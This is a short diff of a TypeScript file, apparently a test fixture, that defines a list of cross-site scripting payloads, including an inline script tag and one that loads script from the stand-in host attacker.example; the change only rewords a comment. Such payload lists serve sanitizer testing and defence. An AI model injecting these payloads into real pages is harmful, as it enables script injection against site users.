@@ -3,7 +3,7 @@ export const ATTACKER = 'attacker.example';
 const RUN = 'window.pwned=1';
 const FROM = `https://${ATTACKER}`;
 
-/** Each ends before the next empty line. */
+/** Payloads whose effect ends at the next empty line. */
 const CLOSED: readonly string[] = [
   `<script>${RUN}</script>`,
   `<SCRIPT SRC=${FROM}/x.js></SCRIPT>`,
